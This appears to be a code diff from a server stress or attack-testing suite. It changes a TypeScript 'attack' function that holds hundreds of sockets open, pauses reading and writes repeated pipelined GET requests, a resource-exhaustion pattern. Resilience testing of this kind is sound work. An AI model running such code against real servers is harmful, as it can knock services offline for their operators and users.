@@ -6,6 +6,6 @@ import { requestText } from '../../support/raw-http.ts'
 export const attack: Attack = (target) => {
   const asked = [...(target.given.paths as string[])].map((path) => requestText(`GET ${path}`)).join('')
   return keepOpen(target, { sockets: 400, addresses: 20, perSecond: 60 }, (socket) => {
-    socket.pause().write(asked.repeat(8))
+    socket.pause().write(asked.repeat(3))
   })
 }
